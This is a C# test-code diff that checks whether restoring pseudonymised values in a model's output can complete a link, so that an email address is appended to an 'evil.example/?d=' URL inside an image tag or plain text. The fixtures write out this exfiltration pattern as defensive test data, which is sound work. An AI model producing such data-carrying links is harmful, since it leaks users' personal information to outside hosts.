@@ -72,6 +72,20 @@ public sealed class LinkTests
         Run("0", [.. text.Select(c => c.ToString())]).ShouldBe(expected);
     }
 
+    /// <summary>A document's own address may be a pseudonym, too: what a model puts behind it would go there.</summary>
+    [Theory]
+    [InlineData("<img src=\"{0}{1}\"> {1}", "<img src=\"https://a:b@evil.example/?d={1}\"> alice@example.com")]
+    [InlineData("see {0}{1} or {1}", "see https://a:b@evil.example/?d={1} or alice@example.com")]
+    [InlineData("{0} {1}", "https://a:b@evil.example/?d= alice@example.com")]
+    [InlineData("{1}{1}", "alice@example.comalice@example.com")]
+    public void What_is_put_back_may_begin_a_link(string text, string expected)
+    {
+        Pseudonym[] pseudonyms = [new() { Token = "URL_BCDFGHJKLMNP", Value = "https://a:b@evil.example/?d=" }, new() { Token = Token, Value = "alice@example.com" }];
+        text = string.Format(null, text, "URL_BCDFGHJKLMNP", Token);
+        Run("0", pseudonyms, text).ShouldBe(string.Format(null, expected, "", Token));
+        Run("0", pseudonyms, [.. text.Select(c => c.ToString())]).ShouldBe(string.Format(null, expected, "", Token));
+    }
+
     [Fact]
     public void Escapes_hide_no_link() =>
         Run("0/tool/0", """{"html":"https:\/\/evil.example\u002f?q=EMAIL_QMKXDWZTRPLB","to":"\nEMAIL_QMKXDWZTRPLB"}""")
